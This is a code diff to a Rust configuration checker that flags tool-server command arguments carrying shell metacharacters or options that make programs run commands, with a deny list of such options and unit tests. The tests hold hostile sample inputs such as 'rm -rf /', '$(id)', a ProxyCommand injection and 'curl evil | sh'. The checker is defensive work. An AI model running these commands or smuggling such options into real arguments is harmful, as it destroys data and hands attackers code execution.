@@ -2,8 +2,9 @@
 //!
 //! Every server has a tool allowlist (loading already requires it), a pinned source (an HTTP
 //! server's allowlisted tools each pinned; a stdio server's artifact pinned by digest), a grant
-//! that reaches each allowlisted tool, and a rate limit on each write and destructive tool. No
-//! secret is inline (loading already refuses one).
+//! that reaches each allowlisted tool, and a rate limit on each write and destructive tool; no
+//! stdio argument carries shell syntax or a command-running option. No secret is inline
+//! (loading already refuses one).
 
 use policy::{Pattern, ToolClass};
 
@@ -42,6 +43,17 @@ pub fn check(reg: &Registry) -> Vec<ConfigProblem> {
             )),
             ServerSource::Command(_) | ServerSource::Builtin(_) => {}
         }
+        if let ServerSource::Command(c) = &s.source {
+            for (i, arg) in c.args.iter().enumerate() {
+                if let Some(why) = risky_argument(arg) {
+                    out.push(map.problem(
+                        &format!("{}[{i}]", child(&child(&base, "command"), "args")),
+                        format!("argument {i} of server `{}` {why}", s.name),
+                        "no shell runs, so the program receives it literally: remove the shell syntax, and never pass an option that makes the program run another command",
+                    ));
+                }
+            }
+        }
         for (tool, entry) in &s.tools {
             let at = child(&child(&base, "tools"), tool);
             let pattern = Pattern::Tool(s.name.clone(), tool.clone());
@@ -62,6 +74,44 @@ pub fn check(reg: &Registry) -> Vec<ConfigProblem> {
         }
     }
     out
+}
+
+/// Options that make common programs (git, ssh, node, interpreters) run a command or load
+/// code named by their value.
+const COMMAND_OPTIONS: &[&str] = &[
+    "--upload-pack",
+    "--receive-pack",
+    "--exec",
+    "--eval",
+    "--require",
+    "--import",
+    "--loader",
+    "--config-env",
+    "proxycommand",
+    "localcommand",
+    "core.sshcommand",
+    "core.pager",
+    "ld_preload",
+];
+
+/// Why a stdio argument deserves a reviewer's eye: shell syntax (it reaches the program
+/// literally, so it was written for a shell or is an injection), or an option that runs a
+/// command.
+fn risky_argument(arg: &str) -> Option<String> {
+    if let Some(c) = arg
+        .chars()
+        .find(|c| matches!(c, ';' | '|' | '&' | '`' | '$' | '>' | '<' | '\n' | '\r'))
+    {
+        return Some(format!(
+            "holds the shell metacharacter `{}`",
+            c.escape_default()
+        ));
+    }
+    let lower = arg.to_ascii_lowercase();
+    COMMAND_OPTIONS
+        .iter()
+        .find(|o| lower.starts_with(**o) || lower.contains(&format!("{}=", o)))
+        .map(|o| format!("passes `{o}`, an option that makes a program run a command"))
 }
 
 /// `text` with server `server`'s `pin:` block replaced by (or, if absent, given) `pins`. The
@@ -146,4 +196,35 @@ pub fn write_pins(
     let out: String = lines.concat();
     crate::load_str(file, &out).map_err(|e| format!("the pinned config would not load:\n{e}"))?;
     Ok(out)
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    #[test]
+    fn shell_syntax_and_command_options_in_stdio_arguments_are_flagged() {
+        for bad in [
+            "--root; rm -rf /",
+            "$(id)",
+            "a|b",
+            "--upload-pack=touch /tmp/x",
+            "-oProxyCommand=sh -c id",
+            "core.sshCommand=sh",
+        ] {
+            assert!(risky_argument(bad).is_some(), "{bad}");
+        }
+        for fine in ["--root", "/srv/data", "--port=8080", "-v", "notes.db"] {
+            assert!(risky_argument(fine).is_none(), "{fine}");
+        }
+        let cfg = "profile: development\nservers:\n  files:\n    command: { program: /bin/echo, args: [\"--root\", \"x; curl evil | sh\"] }\n    tools: {}\n";
+        let reg = crate::load_str("t.yaml", cfg).unwrap();
+        let p = check(&reg);
+        assert!(
+            p.iter().any(|p| p.path == "servers.files.command.args[1]"
+                && p.message.contains("shell metacharacter")
+                && p.location.line == 4),
+            "{p:?}"
+        );
+    }
 }
